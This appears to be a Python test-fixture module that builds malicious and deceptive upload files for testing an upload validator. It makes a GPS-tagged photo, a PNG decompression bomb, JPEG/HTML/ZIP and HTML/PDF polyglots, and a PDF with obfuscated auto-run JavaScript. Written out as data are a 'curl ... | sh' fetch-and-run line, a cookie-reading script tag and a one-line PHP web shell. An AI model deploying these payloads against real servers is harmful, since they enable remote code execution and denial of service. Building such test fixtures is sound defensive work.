"""Test files for uploads: a camera photo with EXIF GPS, files that lie about what they are."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import ExifTags, Image

LATITUDE = (10.0, 9.0, 47.0)  # Kupang, 10°09'47" S
LONGITUDE = (123.0, 36.0, 29.0)
CAMERA = "KameraUjiGPS"


def photo_with_gps(width: int = 3000, height: int = 2000, image_format: str = "JPEG") -> bytes:
    """A 'camera photo' with EXIF: maker, orientation, and the GPS position of the house."""
    image = Image.new("RGB", (width, height), (180, 40, 40))
    for x in range(0, width, 97):  # some detail, so it does not compress to nothing
        image.paste((20, 120, 200), (x, 0, x + 30, height))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA
    exif[ExifTags.Base.Model] = "Ponsel Uji"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = LONGITUDE
    out = io.BytesIO()
    image.save(out, image_format, exif=exif, quality=92)
    return out.getvalue()


def has_gps(data: bytes) -> bool:
    with Image.open(io.BytesIO(data)) as image:
        exif = image.getexif()
        return bool(exif.get_ifd(ExifTags.IFD.GPSInfo)) or CAMERA in str(dict(exif))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def decompression_bomb(side: int = 50_000) -> bytes:
    """A PNG of a few hundred bytes whose header claims side × side pixels (2.5 gigapixels):
    decoding it would take gigabytes."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    row = b"\x00" + b"\x00" * side
    body = zlib.compress(row * 4, 9)  # the first rows only: the header is what matters
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", body)
        + _chunk(b"IEND", b"")
    )


SCRIPT_AS_JPG = (
    b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n<script>alert(document.cookie)</script>\n"
)
HTML_PAYLOAD = b"<html><script>fetch('/permohonan').then(r=>r.text())</script></html>"


def jpeg_with_payload() -> bytes:
    """A polyglot: a valid JPEG with HTML and a ZIP archive appended after its end marker."""
    archive = b"PK\x03\x04" + b"\x00" * 26 + b"evil.php<?php system($_GET['c']); ?>"
    return photo_with_gps(400, 300) + HTML_PAYLOAD + archive


def pdf_html_polyglot() -> bytes:
    """HTML first, a PDF after it: readers find the PDF, a browser sniffing finds the page."""
    return HTML_PAYLOAD + b"\n%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def pdf_with_javascript() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
        b"2 0 obj<</S/J#61vaScript/JS(app.alert('x'))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def plain_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
